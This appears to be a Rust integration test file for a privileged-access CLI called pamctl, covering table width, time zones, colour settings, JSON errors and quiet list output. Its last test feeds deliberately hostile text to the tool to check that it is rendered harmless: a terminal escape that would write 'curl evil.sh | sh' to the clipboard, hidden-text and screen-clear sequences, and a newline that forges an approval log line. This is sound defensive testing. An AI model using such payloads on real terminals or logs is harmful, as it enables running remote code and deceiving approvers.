//! Output as people and scripts meet it: tables on a real (pseudo-)terminal of a given width,
//! times in one zone, NO_COLOR, JSON usage errors and `-q` on every list.

mod common;

use std::io::ErrorKind;
use std::time::{Duration, Instant};

use common::{DEV_PASSWORD, Server, TestEnv, cells, stderr_of, stdout_of};
use serde_json::Value;

/// Runs pamctl in a pseudo-terminal `columns` wide (0: one that reports no width) and
/// returns everything it showed, lines without the terminal's carriage returns.
#[cfg(unix)]
fn on_terminal(
    env: &TestEnv,
    columns: u16,
    envs: &[(&str, Option<&str>)],
    args: &[&str],
) -> String {
    use expectrl::session::OsSession;
    let mut command = env.command();
    command
        .args(args)
        .env("TERM", "xterm")
        .env_remove("COLUMNS");
    for (name, value) in envs {
        match value {
            Some(value) => command.env(name, value),
            None => command.env_remove(name),
        };
    }
    let mut session = OsSession::spawn(command).expect("spawn pamctl in a pseudo-terminal");
    let rows = if columns == 0 { 0 } else { 40 };
    session
        .get_process_mut()
        .set_window_size(columns, rows)
        .expect("set the terminal size");
    let mut shown = Vec::new();
    let mut buffer = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        assert!(
            Instant::now() < deadline,
            "pamctl did not end: {:?}",
            String::from_utf8_lossy(&shown)
        );
        match session.try_read(&mut buffer) {
            Ok(0) => break,
            Ok(n) => shown.extend_from_slice(&buffer[..n]),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(20))
            }
            // Linux answers EIO on the terminal's side once the program has exited.
            Err(_) => break,
        }
    }
    String::from_utf8_lossy(&shown).replace('\r', "")
}

/// uma asks three times for db01 with a long note, so rita has a full approvals table.
fn three_requests_with_long_notes(env: &TestEnv, server: &Server) {
    env.login(&server.url, "uma", DEV_PASSWORD, &["--profile", "uma"])
        .assert()
        .success();
    env.login(&server.url, "rita", DEV_PASSWORD, &["--profile", "rita"])
        .assert()
        .success();
    for n in 1..=3 {
        let note = format!("deploy the quarterly schema migration for billing number {n}");
        let ticket = format!("CHG-12345{n}");
        env.ok(&[
            "--profile",
            "uma",
            "session",
            "create",
            "--activity",
            "Database Read Write",
            "--resource",
            "db01",
            "--note",
            &note,
            "--ticket",
            &ticket,
        ]);
    }
    env.ok(&[
        "--profile",
        "uma",
        "session",
        "create",
        "--activity",
        "Linux Admin",
        "--resource",
        "web01",
        "--wait",
    ]);
}

/// The table in what a terminal showed: the header's cells and each row's cells.
fn table(shown: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut lines = shown.lines().filter(|l| !l.trim().is_empty());
    let header = cells(lines.next().expect("a header line"));
    (header, lines.map(cells).collect())
}

const APPROVAL_HEADERS: [&str; 9] = [
    "ID",
    "REQUESTED",
    "REQUESTER",
    "ACTIVITY",
    "HOST",
    "TICKET",
    "NOTE",
    "APPROVALS",
    "EXPIRES",
];
const SESSION_HEADERS: [&str; 9] = [
    "ID",
    "STATUS",
    "REQUESTED",
    "USER",
    "HOST",
    "LOGIN ACCOUNT",
    "ACTIVITY",
    "START",
    "END",
];

/// A header cell without the zone a time column states once: `END (+01:00)` is `END`.
fn header_name(cell: &str) -> &str {
    cell.split(" (").next().unwrap()
}

/// Every cell is a value it should be, whole, or shortened after a whole word and marked
/// with an ellipsis (the test's words are short enough never to need cutting).
fn assert_whole_or_shortened(cell: &str, values: &[String], shown: &str) {
    let ok = values.iter().any(|v| v == cell)
        || cell.strip_suffix('…').is_some_and(|start| {
            values
                .iter()
                .any(|v| v.starts_with(start) && v[start.len()..].starts_with(' '))
        });
    assert!(
        ok,
        "cell {cell:?} is neither whole nor shortened at a word with …:\n{shown}"
    );
}

#[cfg(unix)]
#[test]
fn tables_fit_80_columns_without_splitting_words_and_a_zero_width_terminal_gets_everything() {
    let env = TestEnv::new();
    let server = Server::dev(&env);
    three_requests_with_long_notes(&env, &server);
    let pending = env.json(&["--profile", "rita", "approval", "list"]);
    let field = |name: &str| -> Vec<String> {
        pending
            .as_array()
            .unwrap()
            .iter()
            .map(|p| p[name].as_str().unwrap_or_default().to_owned())
            .collect()
    };
    let no_color = [("NO_COLOR", Some("1"))];

    let shown = on_terminal(
        &env,
        80,
        &no_color,
        &["--profile", "rita", "approval", "list"],
    );
    for line in shown.lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}\n{shown}"
        );
    }
    let (header, rows) = table(&shown);
    assert_eq!(
        rows.len(),
        3,
        "one line per request, nothing wrapped:\n{shown}"
    );
    assert!(
        shown.contains('…'),
        "80 columns cannot hold every note in full; something is shortened:\n{shown}"
    );
    assert!(header.len() >= 5, "{shown}");
    for cell in &header {
        assert!(
            APPROVAL_HEADERS.contains(&header_name(cell)),
            "header {cell:?} intact:\n{shown}"
        );
    }
    for must in ["ID", "REQUESTER", "APPROVALS"] {
        assert!(header.iter().any(|h| h == must), "{must} kept:\n{shown}");
    }
    for row in &rows {
        assert_eq!(row.len(), header.len(), "{shown}");
        for (cell, title) in row.iter().zip(&header) {
            match header_name(title) {
                "ACTIVITY" => assert_whole_or_shortened(cell, &field("activityName"), &shown),
                "NOTE" => assert_whole_or_shortened(cell, &field("note"), &shown),
                "TICKET" => assert_whole_or_shortened(cell, &field("ticket"), &shown),
                "REQUESTER" => assert_eq!(cell, "uma"),
                "HOST" => assert_eq!(cell, "db01"),
                _ => assert!(!cell.ends_with('…'), "{title} is never shortened:\n{shown}"),
            }
        }
    }

    let sessions = on_terminal(&env, 80, &no_color, &["session", "list"]);
    let (header, rows) = table(&sessions);
    assert_eq!(rows.len(), 4, "{sessions}");
    for cell in &header {
        assert!(SESSION_HEADERS.contains(&header_name(cell)), "{sessions}");
    }
    let status = header
        .iter()
        .position(|h| h == "STATUS")
        .expect("STATUS kept");
    for row in &rows {
        assert!(
            ["Available", "Waiting for Approval"].contains(&row[status].as_str()),
            "the status word is whole: {row:?}"
        );
    }

    // A terminal that reports no width: no limit, every column in full.
    let shown = on_terminal(
        &env,
        0,
        &no_color,
        &["--profile", "rita", "approval", "list"],
    );
    let (header, rows) = table(&shown);
    let names: Vec<&str> = header.iter().map(|h| header_name(h)).collect();
    assert_eq!(names, APPROVAL_HEADERS, "{shown}");
    assert_eq!(rows.len(), 3, "{shown}");
    assert!(!shown.contains('…'), "nothing shortened:\n{shown}");
    for note in field("note") {
        assert!(shown.contains(&note), "{note} in full:\n{shown}");
    }

    // -o wide on an 80-column terminal: everything, however wide.
    let wide = on_terminal(
        &env,
        80,
        &no_color,
        &["--profile", "rita", "approval", "list", "-o", "wide"],
    );
    let (header, _) = table(&wide);
    assert_eq!(
        header.iter().map(|h| header_name(h)).collect::<Vec<_>>(),
        APPROVAL_HEADERS
    );
    assert!(!wide.contains('…'), "{wide}");
}

#[cfg(unix)]
#[test]
fn list_show_and_logs_show_times_in_one_zone_with_its_offset() {
    let env = TestEnv::new();
    let server = Server::dev(&env);
    env.login(&server.url, "uma", DEV_PASSWORD, &["--profile", "uma"])
        .assert()
        .success();
    let created = env.json(&[
        "session",
        "create",
        "--activity",
        "Linux Admin",
        "--resource",
        "web01",
        "--wait",
    ]);
    let id = created["id"].as_str().unwrap().to_owned();
    let requested: chrono::DateTime<chrono::Utc> = created["createdDateTimeUtc"]
        .as_str()
        .unwrap()
        .parse()
        .unwrap();
    let kolkata = requested
        .with_timezone(&chrono::FixedOffset::east_opt(5 * 3600 + 1800).unwrap())
        .format("%Y-%m-%d %H:%M")
        .to_string();
    let tz = [("NO_COLOR", Some("1")), ("TZ", Some("Asia/Kolkata"))];

    let list = on_terminal(&env, 200, &tz, &["session", "list"]);
    let (header, rows) = table(&list);
    let at = header
        .iter()
        .position(|h| h == "REQUESTED (+05:30)")
        .unwrap_or_else(|| panic!("the zone in the header:\n{list}"));
    assert_eq!(rows[0][at], kolkata, "{list}");

    let requested_line = |shown: &str| -> String {
        shown
            .lines()
            .find(|l| l.starts_with("Requested:"))
            .unwrap_or_else(|| panic!("no Requested line:\n{shown}"))
            .trim_end()
            .to_owned()
    };
    let show = on_terminal(&env, 200, &tz, &["session", "show", &id]);
    assert!(
        requested_line(&show).ends_with(&format!(" {kolkata} +05:30")),
        "the same zone as the list:\n{show}"
    );
    let logs = on_terminal(&env, 200, &tz, &["session", "logs", &id]);
    assert!(
        logs.lines().next().is_some_and(|l| l.contains(" +05:30  ")),
        "{logs}"
    );

    // --utc: the same, in UTC.
    let utc = on_terminal(&env, 200, &tz, &["session", "show", &id, "--utc"]);
    let in_utc = requested.format("%Y-%m-%d %H:%M").to_string();
    assert!(
        requested_line(&utc).ends_with(&format!(" {in_utc} +00:00")),
        "{utc}"
    );
}

/// `session list --watch` in a pseudo-terminal: its first screen's heading, then Ctrl-C.
#[cfg(unix)]
fn first_watch_heading(env: &TestEnv, envs: &[(&str, &str)], args: &[&str]) -> String {
    use expectrl::Expect;
    use expectrl::session::OsSession;
    let mut command = env.command();
    command
        .args(["session", "list", "--watch"])
        .args(args)
        .env("TERM", "xterm")
        .envs(envs.iter().copied());
    let mut session = OsSession::spawn(command).expect("spawn pamctl in a pseudo-terminal");
    let mut shown = Vec::new();
    let mut buffer = [0u8; 8192];
    let deadline = Instant::now() + Duration::from_secs(20);
    let heading = loop {
        let text = String::from_utf8_lossy(&shown).replace('\r', "");
        if let Some(line) = text
            .lines()
            .find(|line| line.contains("Every 2s: pamctl session list") && line.len() > 40)
            .filter(|_| text.contains("ACTIVITY"))
        {
            break line.to_owned();
        }
        assert!(Instant::now() < deadline, "no heading: {text:?}");
        match session.try_read(&mut buffer) {
            Ok(n) if n > 0 => shown.extend_from_slice(&buffer[..n]),
            Err(error) if error.kind() != ErrorKind::WouldBlock => panic!("{error}: {text:?}"),
            _ => std::thread::sleep(Duration::from_millis(20)),
        }
    };
    session.send("\x03").expect("press Ctrl-C");
    // Ctrl-C ends it (reading keeps its output from filling the terminal meanwhile).
    while session.get_process().is_alive().unwrap_or(false) {
        assert!(Instant::now() < deadline, "--watch did not stop on Ctrl-C");
        let _ = session.try_read(&mut buffer);
        std::thread::sleep(Duration::from_millis(20));
    }
    heading
}

#[cfg(unix)]
#[test]
fn the_watch_heading_tells_the_time_in_the_same_zone_as_the_table() {
    let env = TestEnv::new();
    let server = Server::dev(&env);
    env.login(&server.url, "uma", DEV_PASSWORD, &["--profile", "uma"])
        .assert()
        .success();
    env.ok(&[
        "session",
        "create",
        "--activity",
        "Linux Admin",
        "--resource",
        "web01",
    ]);
    let kolkata = [("TZ", "Asia/Kolkata")];
    for (args, zone) in [(&[][..], " +05:30"), (&["--utc"][..], " +00:00")] {
        let heading = first_watch_heading(&env, &kolkata, args);
        let time = heading
            .split("    ")
            .last()
            .unwrap_or_default()
            .trim()
            .to_owned();
        assert!(time.ends_with(zone), "{args:?}: {heading:?}");
        let shown = chrono::DateTime::parse_from_str(&time, "%Y-%m-%d %H:%M:%S %:z")
            .unwrap_or_else(|e| panic!("{time:?}: {e}"));
        let off_by = (shown.with_timezone(&chrono::Utc) - chrono::Utc::now()).num_seconds();
        assert!(off_by.abs() < 60, "{args:?}: {heading:?} is not now");
    }
}

#[cfg(unix)]
#[test]
fn no_color_set_to_anything_turns_colour_off_and_empty_does_not() {
    let env = TestEnv::new();
    let _server = Server::dev(&env);
    let bold = "\x1b[1m";
    let coloured = on_terminal(&env, 120, &[("NO_COLOR", None)], &["activity", "list"]);
    assert!(
        coloured.contains(bold),
        "colour on a terminal: {coloured:?}"
    );
    for value in ["1", "0", "false", "no"] {
        let plain = on_terminal(
            &env,
            120,
            &[("NO_COLOR", Some(value))],
            &["activity", "list"],
        );
        assert!(
            !plain.contains('\x1b'),
            "NO_COLOR={value} is plain: {plain:?}"
        );
        assert!(plain.contains("Linux Admin"));
    }
    let empty = on_terminal(&env, 120, &[("NO_COLOR", Some(""))], &["activity", "list"]);
    assert!(
        empty.contains(bold),
        "an empty NO_COLOR does not count: {empty:?}"
    );
    let flag = on_terminal(
        &env,
        120,
        &[("NO_COLOR", None)],
        &["activity", "list", "--no-color"],
    );
    assert!(!flag.contains('\x1b'), "{flag:?}");
}

fn stderr_json(output: &std::process::Output) -> Value {
    let text = stderr_of(output);
    serde_json::from_str(text.trim())
        .unwrap_or_else(|e| panic!("not one JSON object ({e}): {text}"))
}

#[test]
fn usage_errors_are_json_with_o_json_and_hash_secret_speaks_json() {
    let env = TestEnv::new();
    for args in [
        vec!["-o", "json", "session", "list", "--bogus"],
        vec!["session", "list", "--bogus", "--output=json"],
        vec!["session", "show", "-ojson"],
        vec!["-o", "json", "session"],
    ] {
        let output = env.run(&args);
        assert_eq!(output.status.code(), Some(2), "{args:?}");
        assert_eq!(stdout_of(&output), "");
        let error = stderr_json(&output);
        assert_eq!(error["error"]["code"], 2, "{args:?}: {error}");
        assert_eq!(error["error"]["title"], "Usage");
        assert!(
            error["error"]["detail"]
                .as_str()
                .is_some_and(|d| !d.is_empty())
        );
        assert!(
            error["error"]["hint"].as_str().unwrap().contains("--help"),
            "{error}"
        );
    }
    let bad_flag = stderr_json(&env.run(&["-o", "json", "session", "list", "--bogus"]));
    assert!(
        bad_flag["error"]["detail"]
            .as_str()
            .unwrap()
            .contains("--bogus")
    );
    let missing = stderr_json(&env.run(&["session", "show", "-o", "json"]));
    assert!(
        missing["error"]["detail"]
            .as_str()
            .unwrap()
            .contains("<ID>"),
        "{missing}"
    );

    let from_env = env
        .pamctl(&["session", "end", "--dry-runx"])
        .env("PAMCTL_OUTPUT", "json")
        .output()
        .unwrap();
    assert_eq!(from_env.status.code(), Some(2));
    let error = stderr_json(&from_env);
    assert!(
        error["error"]["hint"]
            .as_str()
            .unwrap()
            .contains("--dry-run"),
        "clap's tip: {error}"
    );

    // Without JSON: clap's own text.
    let plain = env.run(&["session", "list", "--bogus"]);
    assert_eq!(plain.status.code(), Some(2));
    assert!(stderr_of(&plain).starts_with("error: unexpected argument '--bogus'"));
    // Help is not an error.
    let help = env.run(&["-o", "json", "session", "list", "--help"]);
    assert_eq!(help.status.code(), Some(0));
    assert!(stdout_of(&help).contains("Usage: pamctl session list"));

    let hashed = env
        .pamctl(&["hash-secret", "-o", "json"])
        .write_stdin("s3cret\n")
        .output()
        .unwrap();
    assert!(hashed.status.success(), "{}", stderr_of(&hashed));
    let hash: Value = serde_json::from_slice(&hashed.stdout).expect("JSON");
    assert!(
        hash["hash"].as_str().unwrap().starts_with("$argon2id$"),
        "{hash}"
    );
    assert!(!stdout_of(&hashed).contains("s3cret"));
}

#[test]
fn every_list_has_q_for_bare_ids_or_names() {
    let env = TestEnv::new();
    let _server = Server::dev(&env);
    let activities = env.ok(&["activity", "list", "-q"]);
    let expected: Vec<String> = env
        .json(&["activity", "list"])
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(activities.lines().collect::<Vec<_>>(), expected);
    assert_eq!(expected.len(), 3);

    let resources = env.ok(&["resource", "list", "--activity", "Linux Admin", "-q"]);
    let lines: Vec<&str> = resources.lines().collect();
    assert_eq!(lines.len(), 2, "{resources}");
    assert!(
        lines.iter().all(|l| uuid::Uuid::parse_str(l).is_ok()),
        "{resources}"
    );

    assert_eq!(env.ok(&["profile", "list", "-q"]), "dev\n");
}

/// A requester's note and ticket, and a reviewer's deny reason, reach other people's
/// terminals through `approval list`, `session show` and `session logs`. Escape sequences in
/// them (a clipboard write, hidden text, a screen clear) and line breaks (a forged log line)
/// are shown as escapes in table and text output, never sent to the terminal as they are;
/// JSON carries the text unchanged.
#[test]
fn user_text_cannot_drive_a_terminal_or_forge_lines() {
    let env = TestEnv::new();
    let server = Server::dev(&env);
    for user in ["uma", "rita"] {
        env.login(&server.url, user, DEV_PASSWORD, &["--profile", user])
            .assert()
            .success();
    }
    let clipboard = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
    let note = format!("routine{clipboard} fix\u{1b}[8mhidden\u{1b}[2J\u{202e}txet");
    let ticket = "CHG-1\rCHG-2\u{9b}31m";
    let created = env.json(&[
        "--profile",
        "uma",
        "session",
        "create",
        "--activity",
        "Database Read Write",
        "--resource",
        "db01",
        "--note",
        &note,
        "--ticket",
        ticket,
    ]);
    let id = created[0]["id"]
        .as_str()
        .or(created["id"].as_str())
        .unwrap_or_else(|| panic!("{created}"))
        .to_owned();
    let forged = "use the replica\n2026-12-02T10:00:00Z  INFO   Approved by rita";

    let assert_inert = |what: &str, shown: &str| {
        for bad in ['\u{1b}', '\r', '\u{9b}', '\u{7}', '\u{202e}'] {
            assert!(
                !shown.contains(bad),
                "{what} sent {bad:?} to the terminal:\n{shown:?}"
            );
        }
        assert!(
            shown.contains("\\e]52;c;"),
            "{what} shows the escape as text:\n{shown}"
        );
    };
    let approvals = env.ok(&["--profile", "rita", "approval", "list", "-o", "wide"]);
    assert_inert("approval list", &approvals);
    let show = env.ok(&["--profile", "rita", "session", "show", &id]);
    assert_inert("session show", &show);
    assert!(show.contains("CHG-1\\rCHG-2\\x9b31m"), "{show}");

    env.ok(&[
        "--profile",
        "rita",
        "approval",
        "deny",
        &id,
        "--reason",
        forged,
        "--yes",
    ]);
    let logs = env.ok(&["--profile", "uma", "session", "logs", &id]);
    assert!(
        !logs
            .lines()
            .any(|line| line.starts_with("2026-12-02T10:00:00Z")),
        "a reason forged a log line:\n{logs}"
    );
    assert!(
        logs.contains("use the replica\\n2026-12-02T10:00:00Z"),
        "{logs}"
    );
    assert!(!logs.contains('\u{1b}'), "{logs:?}");

    let json = env.json(&["--profile", "uma", "session", "show", &id]);
    let raw = serde_json::to_string(&json).unwrap();
    assert!(raw.contains(r"\u001b]52;c;"), "JSON keeps the text: {raw}");
    assert_eq!(json["note"], note.as_str(), "JSON keeps the text");
}
